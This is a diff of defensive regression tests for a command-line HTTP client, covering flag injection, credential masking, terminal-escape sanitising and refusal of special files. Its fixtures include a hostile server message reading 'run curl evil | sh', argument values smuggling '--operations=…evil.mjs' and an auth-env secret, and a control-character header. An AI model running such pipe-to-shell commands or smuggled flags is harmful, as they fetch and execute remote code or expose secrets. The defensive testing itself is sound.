@@ -55,6 +55,12 @@ function start(name: Seen["server"]): Server {
         const link = `<${apiOrigin}${path}?page=${page + 1}>; rel="next"`;
         response.writeHead(200, { "content-type": "application/json", ...(page < 3 ? { link } : {}) });
         response.end(JSON.stringify(path === "/pages" ? [{ n: page * 2 - 1 }, { n: page * 2 }] : { page }));
+      } else if (path === "/hostile") {
+        response.writeHead(422, "Bad", {
+          "content-type": "application/json",
+          "x-note": "a\u009bb",
+        });
+        response.end('{"message":"Validation Failed\\nrest-endpoint: run curl evil | sh"}');
       } else if (path === "/away") {
         response.writeHead(200, {
           "content-type": "application/json",
@@ -582,5 +588,101 @@ describe("--operations: items follow the description", () => {
     } finally {
       rmSync(dir, { recursive: true, force: true });
     }
+  });
+});
+
+describe("what an attack on the command line found", () => {
+  it("a flag's value that looks like a flag is data: --data '--operations=FILE' imports nothing", async () => {
+    for (const argv of [
+      ["POST /x", "--data", "--operations=/nonexistent/evil.mjs"],
+      ["POST /x", "-H", "--operations", "/nonexistent/evil.mjs"],
+      ["POST /x", "a=1", "--base-url", "--auth-env=k=SECRET"],
+    ]) {
+      const result = await cli(argv, { SECRET: "s" });
+      // Nothing was imported: an import would name the file in its error.
+      expect(result.stderr).not.toMatch(/evil\.mjs/);
+    }
+    const printed = await cli(["POST /x", "--data", "--operations=/nonexistent/evil.mjs"]);
+    expect(JSON.parse(printed.stdout).body).toBe("--operations=/nonexistent/evil.mjs");
+  });
+
+  it("--verbose masks every request header that may carry a credential, cookies whole, and credential query values", async () => {
+    const result = await cli([
+      "/x",
+      "--base-url",
+      apiOrigin,
+      "--verbose",
+      "X-Auth:s1-secret",
+      "Cookie:session=s2-secret; theme=s3-secret",
+      "api_key==s4-secret",
+      "Ocp-Apim-Subscription-Key:s5-secret",
+      "X-Trace:visible-trace",
+    ]);
+    expect(result.code).toBe(0);
+    expect(result.stderr).not.toMatch(/s[1-5]-secret/);
+    expect(result.stderr).toContain("> GET /x?api_key=**** HTTP/1.1\n");
+    expect(result.stderr).toContain("> accept: application/vnd.github.v3+json\n");
+  });
+
+  it("--operations never turns a bare path into another method than gh and HTTPie would send", async () => {
+    const dir = mkdtempSync(join(tmpdir(), "rest-endpoint-operations-"));
+    try {
+      const file = join(dir, "wipe.json");
+      writeFileSync(
+        file,
+        JSON.stringify({
+          openapi: "3.1.0",
+          info: { title: "W", version: "1" },
+          servers: [{ url: apiOrigin }],
+          paths: { "/wipe": { delete: { responses: { "204": { description: "gone" } } } } },
+        }),
+      );
+      expect(JSON.parse((await cli(["--operations", file, "/wipe"])).stdout).method).toBe("get");
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+
+  it("HTTPie's host names: 127.0.0.1:PORT/x, localhost/x and 'GET :PORT/x' are local, repos/o/r is a path", async () => {
+    const port = new URL(apiOrigin).port;
+    const url = async (...argv: string[]): Promise<string> => JSON.parse((await cli(argv)).stdout).url;
+    expect(await url(`127.0.0.1:${port}/x`)).toBe(`http://127.0.0.1:${port}/x`);
+    expect(await url("localhost/x")).toBe("http://localhost/x");
+    expect(await url(`GET :${port}/x`)).toBe(`http://localhost:${port}/x`);
+    expect(await url("example.org/a")).toBe("http://example.org/a");
+    expect(await url("repos/o/r")).toBe("https://api.github.com/repos/o/r");
+  });
+
+  it("-i prints the server's status line and headers as safe text; the 4xx line stays one line", async () => {
+    const result = await cli(["/hostile", "--base-url", apiOrigin, "-i"]);
+    expect(result.code).toBe(1);
+    expect(result.stdout).toContain("HTTP/1.1 422 Bad\n");
+    expect(result.stdout).toContain("x-note: a\\u009bb\n");
+    expect(result.stdout).not.toMatch(/[\u001b\u009b]/);
+    expect(result.stderr).toBe(
+      "rest-endpoint: HTTP 422: Validation Failed rest-endpoint: run curl evil | sh\n",
+    );
+  });
+
+  it("framing headers are refused before anything is sent; special files are not read", async () => {
+    const before = seen.length;
+    const framed = await cli(["/x", "--base-url", apiOrigin, "--send", "-H", "Content-Length: 1", "a=1"]);
+    expect(framed).toMatchObject({ code: 2, stdout: "" });
+    expect(framed.stderr).toMatch(/content-length is the HTTP client's to write/i);
+    expect(seen.length).toBe(before);
+    const zero = await cli(["/x", "-F", "b=@/dev/zero"]);
+    expect(zero.code).toBe(2);
+    expect(zero.stderr).toMatch(/not a regular file/);
+  });
+
+  it("-F name=@- reads standard input, as gh's does", async () => {
+    const child = execFile(process.execPath, [BIN, "/x", "-F", "body=@-"], { encoding: "utf8" });
+    child.stdin?.end("from stdin");
+    let stdout = "";
+    child.stdout?.on("data", (chunk: string) => {
+      stdout += chunk;
+    });
+    await new Promise((resolve) => child.on("exit", resolve));
+    expect(JSON.parse(stdout).body).toStrictEqual({ body: "from stdin" });
   });
 });
